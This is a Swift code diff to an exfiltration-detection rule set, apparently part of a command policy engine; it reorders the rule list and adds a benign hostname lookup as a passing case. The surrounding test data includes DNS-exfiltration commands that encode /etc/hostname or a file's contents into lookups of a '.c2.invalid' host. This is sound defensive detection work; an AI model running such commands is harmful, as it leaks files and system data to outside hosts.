@@ -5,9 +5,8 @@ import Policy
 
 extension Rule {
     static let exfiltration: [Rule] = [
-        secretUpload, environmentUpload, hostUpload, outputUpload, fileUpload, variableUpload,
-        secretBesideSend, dropSiteContact,
-        nameLookupLeak, pushElsewhere, remoteCopy,
+        nameLookupLeak, secretUpload, environmentUpload, hostUpload, outputUpload, fileUpload, variableUpload,
+        secretBesideSend, dropSiteContact, pushElsewhere, remoteCopy,
     ]
 
     static let secretUpload = Rule(
@@ -143,7 +142,10 @@ extension Rule {
             .shell("dig $(xxd -p /etc/hostname).c2.invalid"),
             .python("import socket\nsocket.gethostbyname(open('notes.txt').read() + '.c2.invalid')"),
         ],
-        passes: [.shell("dig example.com"), .python("import socket\nsocket.gethostbyname('example.com')")])
+        passes: [
+            .shell("dig example.com"), .python("import socket\nsocket.gethostbyname('example.com')"),
+            .python("import socket\nsocket.gethostbyname(socket.gethostname())"),
+        ])
 
     static let pushElsewhere = Rule(
         "push-elsewhere", .dataExfiltration, .review, 0.6, cwe: 200, attack: "T1567",
